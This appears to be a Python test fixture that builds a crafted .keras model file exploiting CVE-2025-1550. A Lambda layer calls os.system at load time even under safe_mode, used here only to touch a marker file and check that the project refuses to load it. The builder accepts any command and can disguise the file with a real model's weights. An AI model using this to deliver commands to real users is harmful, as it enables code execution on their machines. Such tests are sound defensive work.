"""A crafted `.keras` archive that runs a shell command when Keras deserialises it.

The layout follows advisory GHSA-48g7-3x6r-xfhp (CVE-2025-1550): a `Lambda` layer whose
`function` is the module function `os.system`, called at load time on a string input. Keras 3.8
ran it even with `safe_mode=True` (checked: `keras.saving.load_model` on this file created the
marker under Keras 3.8.0); emotf must never run it.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path


def crafted_config(command: str) -> dict:
    """A functional model config whose one layer calls `os.system(command)` when built."""
    evil = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "evil",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "function",
            },
            "arguments": {},
        },
        "registered_name": None,
        "name": "evil",
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": command}}],
    }
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "crafted",
            "trainable": True,
            "layers": [evil],
            "input_layers": [],
            "output_layers": [["evil", 0, 0]],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
    }


def craft_keras_file(path: Path, marker: Path, template: Path | None = None) -> Path:
    """Write a `.keras` at `path` whose config runs `touch marker`.

    With `template` (a genuine `.keras`), its weights and metadata are kept and only
    `config.json` is replaced, so the file looks like a real emotf model.
    """
    files = {}
    if template is not None:
        with zipfile.ZipFile(template) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
    else:
        files["metadata.json"] = json.dumps({"keras_version": "3.8.0", "date_saved": "x"}).encode()
    files["config.json"] = json.dumps(crafted_config(f"touch {marker}")).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path
